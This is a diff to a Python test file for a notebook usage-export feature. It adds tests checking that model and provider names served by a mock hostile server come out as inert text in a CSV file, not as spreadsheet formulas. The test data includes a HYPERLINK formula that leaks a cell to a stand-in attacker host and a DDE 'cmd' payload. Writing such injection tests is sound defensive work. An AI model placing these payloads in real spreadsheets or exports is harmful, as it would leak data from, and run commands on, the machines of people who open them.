@@ -4,7 +4,9 @@ hostile server of our own)."""
 
 from __future__ import annotations
 
+import csv
 import re
+import socket
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -18,7 +20,7 @@ from routing_magics.emulator import Emulator
 from routing_magics.ledger.export import COLUMNS
 
 from ..helpers import Harness, magic_harness, one_line
-from ..hostile import HostileServer, pricing_down
+from ..hostile import HostileServer, Script, chunk, pricing_down, reply, sse
 
 
 @pytest.fixture
@@ -149,3 +151,45 @@ def test_a_failing_or_hanging_price_list_means_no_cost_and_no_long_wait(
         # A hanging endpoint still holds the request: the cell did not wait for it.
         assert not server.release.is_set()
         assert "No costs" in h.ok("%route usage").final_plain()
+
+
+# --- what a hostile server's names do to a spreadsheet (issue 21) ----------------------------
+
+
+def names_as(model: str, provider: str) -> Script:
+    """Chat answers that say they came from `model` via `provider`; nothing else is served."""
+
+    def script(conn: socket.socket, server: HostileServer) -> None:
+        if not server.requests[-1].startswith(b"POST"):
+            return reply(404, b"Not found", "text/plain")(conn, server)
+        usage = {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}
+        answer = chunk("hi", "stop", usage=usage) | {"model": model, "provider": provider}
+        return reply(200, sse(answer, "data: [DONE]\n\n"), "text/event-stream")(conn, server)
+
+    return script
+
+
+def csv_rows_after(h: Harness, server: HostileServer) -> list[dict[str, str]]:
+    """One cell answered by `server`, then `%route usage --csv`, read back."""
+    with server:
+        h.ok(f"%config RouteMagics.base_url = '{server.base_url}'")
+        h.ok("%%route route/glm-5\nhello")
+    path = h.db.parent / "usage.csv"
+    h.ok(f"%route usage --csv {path}")
+    with open(path, newline="", encoding="utf-8") as source:
+        return list(csv.DictReader(source))
+
+
+def test_formulas_in_served_names_reach_the_csv_as_text(h: Harness) -> None:
+    model = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    provider = "=cmd|' /C calc'!A0"
+    (row,) = csv_rows_after(h, HostileServer(names_as(model, provider)))
+    assert (row["model"], row["provider"]) == ("'" + model, "'" + provider)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", " ="])
+def test_no_csv_cell_starts_a_formula(h: Harness, lead: str) -> None:
+    (row,) = csv_rows_after(h, HostileServer(names_as(f"{lead}1+2", f"{lead}SUM(A1:A9)")))
+    assert row["model"] == f"'{lead}1+2" and row["provider"] == f"'{lead}SUM(A1:A9)"
+    assert row["notebook"] == h.magics.session.notebook  # ordinary text stays as it was
+    assert row["total_tokens"] == "4"
